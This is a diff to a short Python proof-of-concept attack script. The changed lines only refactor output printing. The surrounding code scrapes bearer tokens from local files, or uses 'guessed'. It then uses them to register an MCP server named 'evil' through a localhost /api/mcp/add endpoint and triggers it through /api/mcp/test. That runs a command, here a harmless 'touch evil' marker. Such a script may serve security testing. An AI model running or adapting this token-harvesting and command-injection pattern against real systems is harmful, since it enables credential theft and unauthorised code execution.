@@ -19,7 +19,12 @@ def read(path: str) -> str:
         return ""
 
 
-def post(port: int, path: str, body: dict[str, object], secret: str) -> int:
+def say(what: dict[str, object]) -> None:
+    sys.stdout.write(json.dumps(what) + "\n")
+    sys.stdout.flush()
+
+
+def post(port: int, path: str, body: object, secret: str) -> int:
     connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
     said = {"Content-Type": "application/json", "Authorization": f"Bearer {secret}"}
     connection.request("POST", path, json.dumps(body), said)
@@ -34,8 +39,8 @@ def main() -> None:
     found = {secret for path in files for secret in BEARER.findall(read(path))}
     for secret in sorted(found) or ["guessed"]:
         server = {"name": "evil", "command": ["touch", os.path.join(os.getcwd(), "evil")]}
-        print(json.dumps({"found": len(found), "add": post(int(port), "/api/mcp/add", server, secret)}), flush=True)
-        print(json.dumps({"test": post(int(port), "/api/mcp/test", {"name": "evil"}, secret)}), flush=True)
+        say({"found": len(found), "add": post(int(port), "/api/mcp/add", server, secret)})
+        say({"test": post(int(port), "/api/mcp/test", {"name": "evil"}, secret)})
 
 
 if __name__ == "__main__":
